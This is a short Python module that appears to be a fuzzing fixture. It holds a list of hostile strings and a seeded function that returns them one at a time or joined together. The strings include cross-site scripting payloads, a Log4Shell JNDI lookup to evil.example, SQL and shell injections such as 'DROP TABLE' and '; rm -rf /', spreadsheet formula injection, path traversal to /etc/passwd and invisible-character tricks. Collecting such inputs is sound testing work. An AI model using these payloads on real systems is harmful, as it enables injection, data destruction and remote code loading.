"""Names and texts that are made to be run, followed or taken for something else."""

import random

PIECES = (
    "<script>alert(1)</script>", "</script><img src=x onerror=alert(1)>", "\"'><svg onload=alert(1)>", "<!--",
    "-->", "<a href='https://evil.example/'>here</a>", "<iframe srcdoc='<b>'>", "<style>*{display:none}</style>",
    "]]>", "javascript:alert(1)", "data:text/html;base64,PHNjcmlwdD4=", "https://evil.example/x",
    "www.evil.example", "//evil.example/x", "mailto:a@evil.example", "ada@evil.example",
    "![x](https://evil.example/p.png)", "[here](javascript:alert(1))", "[x]: https://evil.example", "`code`",
    "# head", "| a | b |", "***", "~~gone~~", "&lt;b&gt;", "&#60;script&#62;", "\\u003cscript\\u003e",
    "\u202egnp.exe", "\u200b\u2066x\u2069", "\ufeff", "\u2028", "\x1b[31m\x1b]0;x\x07", "\r\nSet-Cookie: a=b",
    "\t", "\x00", "a\nb", "$\\frac{", "$x$", "^_{", "%s%n{}", "{0.__class__}", "{{ 7*7 }}", "{% raise %}",
    "{# #}", "${jndi:ldap://evil.example/a}", "#{7*7}", "<%= 7 %>", "=1+1", "+cmd|' /C calc'!A0", "-2+3",
    "@SUM(1)", "=HYPERLINK(\"https://evil.example\")", "'; DROP TABLE runs; --", "\" OR 1=1", "$(reboot)", "`id`",
    "; rm -rf /", "../../../../tmp/evil", "..\\..\\evil", "/etc/passwd", "%2e%2e%2fevil", "..", ".", "~root",
    "CON", "con.", "\N{COMBINING LATIN SMALL LETTER A}" * 20, "é", "e\u0301", "ﷺ", "x" * 180, "\U0001f4a3",
    "None", "nan", "-", "_",
)  # fmt: skip


def hostile(n: int, seed: int = 2026) -> list[str]:
    """Return so many texts, the same for the same seed: each piece alone, then some of them joined."""
    rng = random.Random(seed)
    joined = ("".join(rng.sample(PIECES, rng.randint(2, 4))) + f" {i}" for i in range(n))
    return [*PIECES, *joined][:n]
